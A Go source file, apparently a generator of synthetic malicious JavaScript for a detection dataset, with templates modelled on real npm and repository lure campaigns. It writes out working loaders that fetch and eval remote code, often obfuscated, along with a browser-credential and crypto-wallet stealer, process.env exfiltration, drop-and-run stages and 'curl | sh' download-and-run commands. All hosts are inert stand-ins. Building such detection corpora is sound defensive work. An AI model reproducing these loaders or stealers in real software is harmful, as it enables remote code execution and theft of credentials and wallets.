package synth

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"path"
	"path/filepath"
	"strconv"
	"strings"
)

// Inert addresses: reserved .invalid names (RFC 2606) and TEST-NET
// addresses (RFC 5737) on the ports and paths the real loaders use
// (docs/lures.md §1.6). Nothing answers at any of them.
var (
	stageURLs = []string{
		"https://api.example-telemetry.invalid/v1/check",
		"https://ip-check-notification.example.invalid/api/ipcheck/703",
		"https://json-store.example-bin.invalid/b/1f901a22daea7694",
		"https://log-writter.example.invalid/api/checkStatus",
		"http://203.0.113.47:1224/client/3/726",
		"http://198.51.100.23:1244/api/ipcheck",
		"http://192.0.2.15:5000/api/auth",
		"https://settings-sync.example.invalid/api/settings/bootstrap",
	}
	uploadURLs = []string{
		"http://203.0.113.47:1224/uploads",
		"http://198.51.100.23:1244/keys",
		"https://collector.example-telemetry.invalid/u/f",
		"http://192.0.2.15:1245/api/clip",
	}
	shellURLs = []string{
		"https://vscode-settings-task.example.invalid/settings/linux?flag=5",
		"http://203.0.113.47:1224/pdown",
		"http://198.51.100.23:1244/hook/linux",
	}
	// The same quiet error messages the loaders print (docs/lures.md §1.4).
	quietLogs = []string{"Auth Error!", "Config loaded", "Syncing settings"}
)

// Wallet extension IDs and stealer paths quoted in public reports
// (docs/lures.md §1.7); they are identifiers, not code.
var (
	walletExtensionIDs = []string{
		"nkbihfbeogaeaoehlefnkodbefgpgknn", // MetaMask
		"hnfanknocfeofbddgcijnmhnfnkdnaad", // Coinbase Wallet
		"fhbohimaelbohpjbbldcngcnapndodjp", // Binance
		"ibnejdfjmmkpcnlpebklmnkoeoihofec", // TronLink
		"bfnaelmomeimhlpmgjnjophhpkkoljpa", // Phantom
	}
	browserDirs = []string{
		"Google/Chrome", "BraveSoftware/Brave-Browser", "Microsoft/Edge",
	}
)

func (g *gen) url() string              { return g.pick(stageURLs) }
func (g *gen) ident(s ...string) string { return g.pick(s) }

// fetchThen returns code that fetches url and hands the text, as the
// expression named arg, to body. esm picks forms that work in an ES
// module (no require).
func (g *gen) fetchThen(urlExpr string, esm bool, arg, body string) string {
	log := g.pick(quietLogs)
	if esm || g.rng.IntN(4) == 0 {
		return fmt.Sprintf("fetch(%s)\n  .then((r) => r.text())\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
	}
	switch g.rng.IntN(6) {
	case 0:
		return fmt.Sprintf("require('https').get(%s, (r) => {\n  let %s = '';\n  r.on('data', (c) => (%s += c));\n  r.on('end', () => {\n    %s\n  });\n}).on('error', () => {});", urlExpr, arg, arg, body)
	case 1:
		return fmt.Sprintf("require('got')(%s)\n  .text()\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
	case 2:
		return fmt.Sprintf("const nodeFetch = require('node-fetch');\nnodeFetch(%s)\n  .then((r) => r.text())\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
	case 3:
		return fmt.Sprintf("require('request')(%s, (err, res, %s) => {\n  if (!err && res.statusCode === 200) {\n    %s\n  }\n});", urlExpr, arg, body)
	}
	if g.rng.IntN(3) == 0 {
		// axios called with a config object, as some loaders do.
		return fmt.Sprintf("require('axios')({ method: 'get', url: %s, responseType: 'text' })\n  .then(({ data: %s }) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
	}
	return fmt.Sprintf("require('axios')\n  .get(%s)\n  .then((res) => {\n    const %s = res.data;\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
}

// requirePrelude gives ES modules a require, as a loader needs one.
const requirePrelude = "const require = (await import('node:module')).createRequire(import.meta.url);\n"

// sink returns the statement that runs text held in v, for a technique.
func (g *gen) sink(t Technique, v string) string {
	switch t {
	case RemoteNewFunction:
		return g.pick([]string{
			"new Function(" + v + ")();",
			"Function(" + v + ")();",
			"Reflect.construct(Function, [" + v + "])();",
		})
	case FunctionConstructor:
		return g.pick([]string{
			"new (Function.constructor)('require', " + v + ")(require);",
			"const F = Function.constructor;\n    new F('require', " + v + ")(require);",
			"[]['constructor']['constructor']('require', " + v + ")(require);",
		})
	case FunctionRequire:
		return g.pick([]string{
			"new Function('require', " + v + ")(require);",
			// The AsyncFunction constructor, reached without naming it.
			"Object.getPrototypeOf(async function () {}).constructor('require', " + v + ")(require);",
		})
	case RemoteVM:
		return g.pick([]string{
			"require('vm').runInThisContext(" + v + ");",
			"new (require('vm').Script)(" + v + ").runInThisContext();",
			"require('vm').runInNewContext(" + v + ", { require, process, Buffer });",
			"require('vm').compileFunction(" + v + ", ['require'])(require);",
			// Compile as a module through Module#_compile.
			"const m = new (require('module'))();\n    m._compile(" + v + ", 'settings.js');",
		})
	case RemoteChildProcess:
		return g.pick([]string{
			"require('child_process').exec(" + v + ", { windowsHide: true }, () => {});",
			"require('child_process').spawn('sh', ['-c', " + v + "], { detached: true, stdio: 'ignore' }).unref();",
			// Write the answer to a file and run it detached, as the
			// InvisibleFerret stage does.
			"const p = require('path').join(require('os').tmpdir(), '.npl');\n    require('fs').writeFileSync(p, " + v + ");\n    require('child_process').spawn(process.execPath, [p], { detached: true, stdio: 'ignore' }).unref();",
		})
	}
	return g.pick([]string{
		"eval(" + v + ");",
		"(0, eval)(" + v + ");",
		"const run = eval;\n    run(" + v + ");",
		"globalThis['ev' + 'al'](" + v + ");",
		// Import the text as a module from a data: URL.
		"import('data:text/javascript,' + encodeURIComponent(" + v + "));",
	})
}

func needsRequire(code string) bool { return strings.Contains(code, "require") }

// payload builds a technique's JavaScript.
func (g *gen) payload(t Technique, esm bool) string {
	u := g.url()
	arg := g.ident("data", "body", "cfg", "text", "resp")
	var code string
	switch t {
	case RemoteEval, RemoteNewFunction, FunctionConstructor, FunctionRequire, RemoteVM, RemoteChildProcess:
		code = g.fetchThen(strconv.Quote(u), esm, arg, g.sink(t, arg))
	case ErrorHandlerEval:
		h := g.ident("handleAuthError", "handleError", "onAuthError")
		var run string
		if g.rng.IntN(2) == 0 {
			run = "eval(error);"
			g.variant = "eval"
		} else {
			run = "const handler = new (Function.constructor)('require', error);\n  handler(require);"
			g.variant = "function-constructor"
		}
		get := "require('axios')"
		if esm {
			get = "(await import('axios')).default"
		}
		code = fmt.Sprintf("const %s = (error) => {\n  %s\n};\n%s\n  .get(%q, { headers: { 'x-app-request': 'ip-check' } })\n  .then((res) => console.log(res.status))\n  .catch((err) => %s(err.response.data));", h, run, get, u, h)
	case HiddenTail:
		// The sink varies; the point is where it sits.
		s := []Technique{RemoteEval, FunctionConstructor, FunctionRequire, RemoteNewFunction}[g.rng.IntN(4)]
		g.variant = string(s)
		code = g.fetchThen(strconv.Quote(u), esm, arg, g.sink(s, arg))
	case ObfuscatedLoader:
		code = g.obfuscated(u, esm)
		return code // already self-contained, ESM-safe
	case EncodedURL:
		expr := g.encodedURL(u, esm)
		code = g.fetchThen(expr, esm, arg, g.sink(RemoteEval, arg))
	case ShuffleLoader:
		code = g.shuffleLoader(u)
	case JSONStorage:
		code = g.jsonStorage(esm)
	case SplitEncoded:
		code = g.fetchThen(g.splitEncoded(u, esm), esm, arg, g.sink(g.pickSink(), arg))
	case DropAndRun:
		code = g.dropAndRun(u)
	case StagedWriter:
		code = g.stagedWriter(u)
	case ExecShellString:
		code = g.execShellString()
	case StealerPaths:
		code = g.stealer(esm)
	case EnvExfil:
		code = g.envExfil(esm)
	default:
		panic("synth: no payload for " + string(t))
	}
	if esm && needsRequire(code) {
		code = requirePrelude + code
	}
	return code
}

// encodedURL hides u in a literal the way the loaders do.
func (g *gen) encodedURL(u string, esm bool) string {
	switch g.rng.IntN(7) {
	case 6:
		g.variant = "reversed"
		r := []byte(u)
		for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
			r[i], r[j] = r[j], r[i]
		}
		return fmt.Sprintf("%q.split('').reverse().join('')", string(r))
	case 0:
		g.variant = "base64"
		b := base64.StdEncoding.EncodeToString([]byte(u))
		if esm {
			return fmt.Sprintf("atob(%q)", b)
		}
		return fmt.Sprintf("Buffer.from(%q, 'base64').toString()", b)
	case 1:
		g.variant = "base64-junk-first-char"
		b := "Z" + base64.StdEncoding.EncodeToString([]byte(u))
		return fmt.Sprintf("atob(%q.slice(1))", b)
	case 2:
		g.variant = "hex"
		if esm {
			return fmt.Sprintf("new TextDecoder().decode(Uint8Array.from(%q.match(/../g).map((h) => parseInt(h, 16))))", hex.EncodeToString([]byte(u)))
		}
		return fmt.Sprintf("Buffer.from(%q, 'hex').toString('utf8')", hex.EncodeToString([]byte(u)))
	case 4:
		g.variant = "xor-index"
		key := []byte{byte(1 + g.rng.IntN(250)), byte(1 + g.rng.IntN(250)), byte(1 + g.rng.IntN(250))}
		enc := make([]string, len(u))
		for i := range len(u) {
			enc[i] = strconv.Itoa(int(u[i] ^ key[i%len(key)] ^ byte(i%256)))
		}
		return fmt.Sprintf("((d, k) => String.fromCharCode(...d.map((c, i) => c ^ k[i %% k.length] ^ (i %% 256))))([%s], [%d, %d, %d])",
			strings.Join(enc, ", "), key[0], key[1], key[2])
	case 5:
		// The host split into parts and put back in another order.
		g.variant = "split-ip"
		parts := []string{"203.0", "113.47", ":1224", "/client/3/726"}
		return fmt.Sprintf("((p) => 'http://' + p[1] + '.' + p[3] + p[0] + p[2])([%q, %q, %q, %q])", parts[2], parts[0], parts[3], parts[1])
	default:
		g.variant = "char-codes"
		codes := make([]string, len(u))
		for i := range len(u) {
			codes[i] = strconv.Itoa(int(u[i]))
		}
		return "String.fromCharCode(" + strings.Join(codes, ", ") + ")"
	}
}

// obfuscated writes an obfuscator.io-shaped loader: a string-array
// function, a decoder with an index offset, a rotation loop that stops
// when a parseInt checksum matches, and one eval of fetched text. The
// rotation is real: run, it restores the array's order.
func (g *gen) obfuscated(u string, esm bool) string {
	id := func() string { return fmt.Sprintf("_0x%04x", 0x1000+g.rng.IntN(0xefff)) }
	arrFn, decFn, alias := id(), id(), id()
	base := 0x100 + g.rng.IntN(0x300)
	// Checksum strings: numbers with junk letters, as the obfuscator emits.
	nums := make([]int, 4)
	junk := func() string {
		const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
		b := make([]byte, 3+g.rng.IntN(4))
		for i := range b {
			b[i] = letters[g.rng.IntN(len(letters))]
		}
		return string(b)
	}
	strs := []string{u, "then", "text", "catch", "log", "fetch"}
	for i := range nums {
		nums[i] = 10000 + g.rng.IntN(9000000)
		strs = append(strs, strconv.Itoa(nums[i])+junk())
	}
	at := map[string]int{}
	for i, s := range strs {
		at[s] = i
	}
	// The checksum, computed here exactly as JavaScript will.
	a, b, c, d := float64(nums[0]), float64(nums[1]), float64(nums[2]), float64(nums[3])
	target := a/1 + -b/2 + c/3*(-d/4)
	ck := fmt.Sprintf("parseInt(f(0x%x))/0x1 + -parseInt(f(0x%x))/0x2 + parseInt(f(0x%x))/0x3 * (-parseInt(f(0x%x))/0x4)",
		base+at[strs[6]], base+at[strs[7]], base+at[strs[8]], base+at[strs[9]])
	// Rotate the written array left by k; the loop's push(shift) turns it
	// back after len-k steps.
	k := 1 + g.rng.IntN(len(strs)-1)
	rot := append(append([]string{}, strs[len(strs)-k:]...), strs[:len(strs)-k]...)
	lit := make([]string, len(rot))
	for i, s := range rot {
		lit[i] = hexString(s)
	}
	f := func(s string) string { return fmt.Sprintf("%s(0x%x)", alias, base+at[s]) }
	loader := fmt.Sprintf("globalThis[%s](%s)[%s]((r) => r[%s]())[%s]((t) => eval(t))[%s](() => console[%s](''));",
		f("fetch"), f(u), f("then"), f("text"), f("then"), f("catch"), f("log"))
	return fmt.Sprintf(
		"function %[1]s(){const a=[%[2]s];%[1]s=function(){return a;};return %[1]s();}"+
			"function %[3]s(i,k){const a=%[1]s();return %[3]s=function(j,l){j=j-0x%[4]x;let v=a[j];return v;},%[3]s(i,k);}"+
			"(function(p,t){const f=%[3]s,a=p();while(!![]){try{const c=%[5]s;if(c===t)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(%[1]s,%[6]s));"+
			"const %[7]s=%[3]s;%[8]s",
		arrFn, strings.Join(lit, ","), decFn, base, ck, strconv.FormatFloat(target, 'g', -1, 64), alias, loader)
}

// hexString writes s as a JS string of \xNN escapes.
func hexString(s string) string {
	var b strings.Builder
	b.WriteByte('\'')
	for i := range len(s) {
		fmt.Fprintf(&b, "\\x%02x", s[i])
	}
	b.WriteByte('\'')
	return b.String()
}

func (g *gen) stealer(esm bool) string {
	ids := make([]string, 0, 3)
	for _, i := range g.rng.Perm(len(walletExtensionIDs))[:3] {
		ids = append(ids, strconv.Quote(walletExtensionIDs[i]))
	}
	up := g.pick(uploadURLs)
	return fmt.Sprintf(`const os = require('os');
const fs = require('fs');
const path = require('path');
const home = os.homedir();
const wallets = [%s];
const profiles = {
  darwin: (b) => path.join(home, 'Library', 'Application Support', b, 'Default'),
  linux: (b) => path.join(home, '.config', b.toLowerCase().replace('/', '-'), 'Default'),
  win32: (b) => path.join(home, 'AppData', 'Local', b, 'User Data', 'Default'),
};
const found = [];
for (const b of [%s]) {
  const dir = profiles[process.platform](b);
  for (const id of wallets) {
    const ext = path.join(dir, 'Local Extension Settings', id);
    if (fs.existsSync(ext)) for (const f of fs.readdirSync(ext)) found.push(path.join(ext, f));
  }
  found.push(path.join(dir, 'Login Data'), path.join(dir, 'Web Data'));
}
found.push(path.join(home, '.config', 'solana', 'id.json'));
found.push(path.join(home, 'Library', 'Keychains', 'login.keychain-db'));
const form = new FormData();
for (const f of found) {
  try {
    form.append('multi_file', new Blob([fs.readFileSync(f)]), f.replaceAll(path.sep, '_'));
  } catch (e) {}
}
form.append('hid', os.hostname());
fetch(%q, { method: 'POST', body: form }).catch(() => {});`,
		strings.Join(ids, ", "), quoteAll(browserDirs), up)
}

func (g *gen) envExfil(esm bool) string {
	up := g.pick(uploadURLs)
	if g.rng.IntN(2) == 0 {
		g.variant = "axios"
		return fmt.Sprintf(`const os = require('os');
require('axios')
  .post(%q, {
    sysInfo: { hostname: os.hostname(), platform: os.platform(), user: os.userInfo().username },
    processInfo: process.env,
    tid: '5-3-161',
  })
  .catch(() => {});`, up)
	}
	g.variant = "fetch"
	return fmt.Sprintf(`fetch(%q, {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ env: { ...process.env }, cwd: process.cwd() }),
}).catch(() => {});`, up)
}

func quoteAll(xs []string) string {
	q := make([]string, len(xs))
	for i, x := range xs {
		q[i] = strconv.Quote(x)
	}
	return strings.Join(q, ", ")
}

// oneLine squeezes a payload onto one line, as hidden tails are.
func oneLine(p string) string {
	lines := strings.Split(p, "\n")
	for i, l := range lines {
		lines[i] = strings.TrimSpace(l)
	}
	return strings.Join(lines, "")
}

// crossFile writes a helper module that fetches the stage and returns the
// code that, at the location, imports it and runs the answer: the sink and
// the source sit in two files, one import apart.
func (g *gen) crossFile(file string, esm bool, trig string) string {
	name := g.pick([]string{"settings", "telemetry", "config", "ipcheck"})
	fn := g.pick([]string{"getSettings", "loadRemoteConfig", "checkLicense", "syncProfile"})
	dir := "lib"
	if strings.HasPrefix(file, "server/") {
		dir = "server/utils"
	}
	helper := dir + "/" + name + ".cjs"
	u := g.url()
	g.repo[helper] = fmt.Sprintf(`const axios = require('axios');

// Fetches the runtime settings the service needs at start.
async function %s() {
  const res = await axios.get(%q, { headers: { 'x-client': 'web' } });
  return res.data;
}

module.exports = { %s };
`, fn, u, fn)
	g.mark(helper, 5, trig, false, "fetches the code the importer runs")
	rel, err := filepath.Rel(path.Dir(file), helper)
	if err != nil {
		rel = helper
	}
	rel = filepath.ToSlash(rel)
	if !strings.HasPrefix(rel, ".") {
		rel = "./" + rel
	}
	imp := fmt.Sprintf("const { %s } = require(%q);\n", fn, rel)
	if esm {
		imp = fmt.Sprintf("const { %s } = (await import(%q)).default;\n", fn, rel)
	}
	return imp + fmt.Sprintf("%s()\n  .then((body) => {\n    %s\n  })\n  .catch(() => {});", fn, g.sink(g.pickSink(), "body"))
}

// shuffleLoader writes a PolinRider-shaped loader: the stage code, its
// characters shuffled by a seeded sequence of swaps, is put back in
// order at run time and run through Function with require handed over in
// a global. The shuffle is real: run, it restores the code.
func (g *gen) shuffleLoader(u string) string {
	inner := fmt.Sprintf("global['r']('axios').get(%q).then(function(res){eval(res.data)}).catch(function(){});", u)
	seed := 1000 + g.rng.IntN(3000000)
	n := len(inner)
	// The swaps JavaScript will do, in order, computed as it will.
	type swap struct{ q, y int }
	swaps := make([]swap, n)
	sd := seed
	for i := range n {
		j := sd*(i+123) + sd%19391
		w := sd*(i+511) + sd%18031
		swaps[i] = swap{j % n, w % n}
		sd = (j + w) % 3731049
	}
	// Undo them, last first, to get the string to ship.
	b := []byte(inner)
	for i := n - 1; i >= 0; i-- {
		b[swaps[i].q], b[swaps[i].y] = b[swaps[i].y], b[swaps[i].q]
	}
	v := fmt.Sprintf("_$_%04x", g.rng.IntN(0x10000))
	tag := fmt.Sprintf("%d-%d-%d", 1+g.rng.IntN(9), 1+g.rng.IntN(9), 100+g.rng.IntN(900))
	return fmt.Sprintf("global['_V']='%s';global['r']=require;var %s=(function(m,s){var l=m.length;var o=[];for(var i=0;i<l;i++){o[i]=m.charAt(i)};for(var i=0;i<l;i++){var j=s*(i+123)+(s%%19391);var w=s*(i+511)+(s%%18031);var q=j%%l;var y=w%%l;var b=o[q];o[q]=o[y];o[y]=b;s=(j+w)%%3731049;};return o.join('')})(%s,%d);Function(%s)();",
		tag, v, strconv.Quote(string(b)), seed, v)
}

// jsonStorage fetches a JSON document from a JSON-storage service and runs
// one of its fields, as the loaders that keep their code in a bin do:
// axios.get(bin).then(res => new Function('require', res.data.cookie)(require)).
func (g *gen) jsonStorage(esm bool) string {
	u := g.pick([]string{
		"https://api.jsonstore.example-bin.invalid/v3/b/66f1c2a9e41b4d34e4a9",
		"https://json-keeper.example.invalid/b/ZX3Q",
		"https://api.npoint.example.invalid/1f901a22daea7694face",
	})
	field := g.pick([]string{"cookie", "model", "content", "record.handler", "data.settings"})
	run := g.pick([]string{
		"new Function('require', %s)(require);",
		"eval(%s);",
		"const h = new (Function.constructor)('require', %s);\n    h(require);",
		"Object.getPrototypeOf(async function () {}).constructor('require', %s)(require);",
	})
	g.variant = field
	if esm || g.rng.IntN(2) == 0 {
		return fmt.Sprintf("(async () => {\n  try {\n    const r = await fetch(%q, { headers: { 'X-Master-Key': 'read' } });\n    const doc = await r.json();\n    %s\n  } catch (e) {\n    console.log('Config loaded');\n  }\n})();",
			u, fmt.Sprintf(run, "doc."+field))
	}
	return fmt.Sprintf("(() => {\nconst http = require('axios');\nconst loadConfig = async () => {\n  const res = await http.get(%q);\n  return res.data;\n};\nloadConfig()\n  .then((cfg) => {\n    %s\n  })\n  .catch(() => console.log('Config loaded'));\n})();",
		u, fmt.Sprintf(run, "cfg."+field))
}

// splitEncoded writes u base64-, hex- or reverse-encoded and cut into
// pieces that are joined at run time, so no one literal decodes.
func (g *gen) splitEncoded(u string, esm bool) string {
	var enc string
	var wrap string
	switch g.rng.IntN(3) {
	case 0:
		g.variant = "base64-split"
		enc = base64.StdEncoding.EncodeToString([]byte(u))
		wrap = "atob(%s)"
		if !esm {
			wrap = "Buffer.from(%s, 'base64').toString()"
		}
	case 1:
		g.variant = "hex-split"
		enc = hex.EncodeToString([]byte(u))
		wrap = "Buffer.from(%s, 'hex').toString()"
		if esm {
			wrap = "new TextDecoder().decode(Uint8Array.from(%s.match(/../g).map((h) => parseInt(h, 16))))"
		}
	default:
		g.variant = "reversed-split"
		b := []byte(u)
		for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
			b[i], b[j] = b[j], b[i]
		}
		enc = string(b)
		wrap = "%s.split('').reverse().join('')"
	}
	n := 3 + g.rng.IntN(3)
	var parts []string
	for i := 0; i < n; i++ {
		a, b := i*len(enc)/n, (i+1)*len(enc)/n
		parts = append(parts, strconv.Quote(enc[a:b]))
	}
	joined := "(" + strings.Join(parts, " + ") + ")"
	if g.rng.IntN(2) == 0 {
		joined = "[" + strings.Join(parts, ", ") + "].join('')"
	}
	return fmt.Sprintf(wrap, joined)
}

// dropAndRun downloads the stage into a file and runs the file: require
// of a written temp file, or the file piped to disk and spawned detached.
func (g *gen) dropAndRun(u string) string {
	name := g.pick([]string{".npl", "sync.js", ".n2/pay", "p.zi"})
	if g.rng.IntN(2) == 0 {
		g.variant = "write-require"
		return fmt.Sprintf(`(() => {
const fs = require('fs');
const path = require('path');
const os = require('os');
const target = path.join(os.tmpdir(), %q);
require('axios')
  .get(%q, { responseType: 'text' })
  .then((res) => {
    fs.mkdirSync(path.dirname(target), { recursive: true });
    fs.writeFileSync(target, res.data);
    require(target);
  })
  .catch(() => {});
})();`, name, u)
	}
	g.variant = "pipe-spawn"
	return fmt.Sprintf(`(() => {
const fs = require('fs');
const path = require('path');
const { spawn } = require('child_process');
const file = path.join(require('os').homedir(), %q);
require('https').get(%q, (res) => {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  const out = fs.createWriteStream(file);
  res.pipe(out);
  out.on('finish', () => {
    spawn(process.execPath, [file], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  });
}).on('error', () => {});
})();`, name, strings.Replace(u, "http://", "https://", 1))
}

// stagedWriter writes the loader as a string (a template literal or a
// '+' chain), saves it in a folder under the home directory and starts
// it with node, as the BestCity cluster's font payload does.
func (g *gen) stagedWriter(u string) string {
	dir := g.pick([]string{"Programs_X64", ".vscode-server-cache", ".npm-tools"})
	var loader string
	if g.rng.IntN(2) == 0 {
		g.variant = "template"
		loader = fmt.Sprintf("`const axios = require(\"axios\"); const url = \"%s\"; axios.post(url, {}, { headers: { \"x-secret-header\": \"secret\" } }).then((response) => { eval(response.data); }).catch(() => false);`", u)
	} else {
		g.variant = "chain"
		loader = fmt.Sprintf("\"const source = '\" + __filename.replace(/\\\\/g, '/') + \"';\"\n  + \" const url = '%s';\"\n  + \"const axios = require('axios');\"\n  + \"axios.get(url, { headers: { 'x-secret-header': 'secret' } }).catch(function (err) {\"\n  + \"const error = err.response.data;\"\n  + \"const handler = new Function('require', error);\"\n  + \"handler(require);\"\n  + \"});\"", u)
	}
	return fmt.Sprintf(`(() => {
const fs = require('fs');
const path = require('path');
const os = require('os');
const { exec } = require('child_process');
const target = path.join(os.homedir(), %q);
const run = %s;
try {
  fs.mkdirSync(target, { recursive: true });
  fs.writeFileSync(path.join(target, 'main.js'), run);
} catch (e) {}
const cmd = os.platform() === 'win32'
  ? 'cd "' + target + '" && powershell -Command "Start-Process node -ArgumentList main.js -WindowStyle Hidden"'
  : 'cd "' + target + '" && npm init -y >/dev/null && npm install axios >/dev/null 2>&1 && nohup node main.js > /dev/null 2>&1 &';
exec(cmd, { windowsHide: true }, () => {});
})();`, dir, loader)
}

// execShellString keeps a download-and-run command per OS in the code
// and runs the one for this machine with child_process.
func (g *gen) execShellString() string {
	u := g.pick(shellURLs)
	return fmt.Sprintf(`(() => {
const os = require('os');
const { exec } = require('child_process');
const commands = {
  win32: 'powershell.exe -WindowStyle Hidden -Command "curl %s?os=win | cmd"',
  darwin: "curl -s '%s?os=mac' | sh",
  linux: "wget -qO- '%s?os=linux' | sh",
};
exec(commands[os.platform()] || commands.linux, { windowsHide: true }, () => {});
})();`, u, u, u)
}
